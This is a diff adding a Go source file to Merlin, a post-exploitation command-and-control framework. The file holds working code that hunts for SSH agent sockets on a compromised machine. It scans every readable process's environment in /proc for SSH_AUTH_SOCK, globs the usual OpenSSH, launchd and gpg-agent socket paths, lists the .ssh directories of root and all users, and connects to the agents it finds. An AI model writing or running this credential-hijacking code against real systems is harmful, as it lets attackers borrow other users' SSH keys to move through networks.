@@ -0,0 +1,111 @@
+//go:build !windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"net"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+)
+
+// agentSockets returns the SSH agent sockets found in the Agent's environment, the environment of every readable
+// process, and the locations OpenSSH, launchd, and gpg-agent create them in
+func agentSockets() (sockets []string) {
+	found := make(map[string]bool)
+	add := func(socket string) {
+		if socket == "" || found[socket] {
+			return
+		}
+		info, err := os.Stat(socket)
+		if err != nil || info.Mode()&os.ModeSocket == 0 {
+			return
+		}
+		found[socket] = true
+		sockets = append(sockets, socket)
+	}
+
+	add(os.Getenv("SSH_AUTH_SOCK"))
+
+	// Linux processes that were started from a forwarded or local SSH session carry the socket in their environment
+	if runtime.GOOS == "linux" {
+		environs, _ := filepath.Glob("/proc/[0-9]*/environ")
+		for _, environ := range environs {
+			data, err := os.ReadFile(environ) // #nosec G304 -- The path is built from a fixed pattern
+			if err != nil {
+				continue
+			}
+			for _, variable := range strings.Split(string(data), "\x00") {
+				if strings.HasPrefix(variable, "SSH_AUTH_SOCK=") {
+					add(strings.TrimPrefix(variable, "SSH_AUTH_SOCK="))
+				}
+			}
+		}
+	}
+
+	patterns := []string{
+		"/tmp/ssh-*/agent.*",
+		"/tmp/com.apple.launchd.*/Listeners",
+		"/private/tmp/com.apple.launchd.*/Listeners",
+		"/run/user/*/gnupg/S.gpg-agent.ssh",
+	}
+	for _, directory := range sshDirectories() {
+		patterns = append(patterns, filepath.Join(directory, "agent", "*"))
+	}
+	for _, pattern := range patterns {
+		matches, _ := filepath.Glob(pattern)
+		for _, match := range matches {
+			add(match)
+		}
+	}
+	return
+}
+
+// sshDirectories returns the .ssh directory of the current user, root, and every user with a home directory in the
+// default location
+func sshDirectories() (directories []string) {
+	homes := []string{"/root"}
+	if home, err := os.UserHomeDir(); err == nil {
+		homes = append(homes, home)
+	}
+	for _, pattern := range []string{"/home/*", "/Users/*"} {
+		matches, _ := filepath.Glob(pattern)
+		homes = append(homes, matches...)
+	}
+	found := make(map[string]bool)
+	for _, home := range homes {
+		directory := filepath.Join(home, ".ssh")
+		if !found[directory] {
+			found[directory] = true
+			directories = append(directories, directory)
+		}
+	}
+	return
+}
+
+// dialAgent connects to the SSH agent listening on the Unix domain socket
+func dialAgent(socket string) (net.Conn, error) {
+	return net.DialTimeout("unix", socket, agentTimeout)
+}